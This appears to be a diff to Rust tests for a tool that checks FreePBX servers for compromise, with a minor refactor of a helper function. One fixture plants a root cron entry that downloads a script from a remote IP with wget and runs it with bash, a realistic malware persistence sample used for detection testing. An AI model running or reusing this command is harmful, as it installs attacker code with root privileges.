@@ -32,8 +32,8 @@ fn word(check: &Check, question: Question) -> Option<Word> {
     check.answers.iter().find(|answer| answer.question == question).map(|answer| answer.answer)
 }
 
-fn freepbx() -> Option<Product> {
-    Some(Product { name: "FreePBX".into(), version: None, has_pack: true })
+fn freepbx() -> Product {
+    Product { name: "FreePBX".into(), version: None, has_pack: true }
 }
 
 const QUIET: [(&str, &str); 4] = [
@@ -45,7 +45,7 @@ const QUIET: [(&str, &str); 4] = [
 
 #[test]
 fn what_was_not_read_is_not_known_and_silence_about_it_is_no_answer() {
-    let check = check_of(&QUIET, freepbx());
+    let check = check_of(&QUIET, Some(freepbx()));
     assert_eq!(word(&check, Question::Shells), Some(Word::NoEvidence));
     assert_eq!(word(&check, Question::Accounts), Some(Word::NoEvidence));
     assert_eq!(word(&check, Question::Database), Some(Word::NotKnown));
@@ -75,7 +75,7 @@ fn a_planted_host_is_answered_with_evidence_family_and_time() {
     let mut files = QUIET.to_vec();
     files.push(("usr/lib/.systemd/.cache", "* * * * * root true\n"));
     files.push(("var/spool/cron/root", "*/1 * * * * wget -q http://45.95.147.178/k.php -O /var/lib/asterisk/bin/zen222 && bash /var/lib/asterisk/bin/zen222\n"));
-    let check = check_of(&files, freepbx());
+    let check = check_of(&files, Some(freepbx()));
     assert_eq!(check.verdict, Verdict::Compromised);
     assert_eq!(word(&check, Question::Persistence), Some(Word::Compromised));
     assert_eq!(check.families[0].id, "jomangy");
